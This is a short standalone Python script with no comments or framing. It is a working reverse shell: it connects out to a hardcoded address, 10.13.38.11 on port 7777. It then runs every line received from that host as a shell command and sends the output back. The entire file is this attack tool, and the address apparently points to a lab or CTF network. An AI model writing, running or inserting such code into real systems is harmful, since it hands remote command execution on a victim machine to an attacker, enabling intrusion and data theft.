import asyncio


async def main(host="10.13.38.11", port=7777):
    reader, writer = await asyncio.open_connection(host, port)
    while True:
        line = await reader.readline()
        if not line:
            break
        proc = await asyncio.create_subprocess_shell(
            line.decode(), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()


asyncio.run(main())
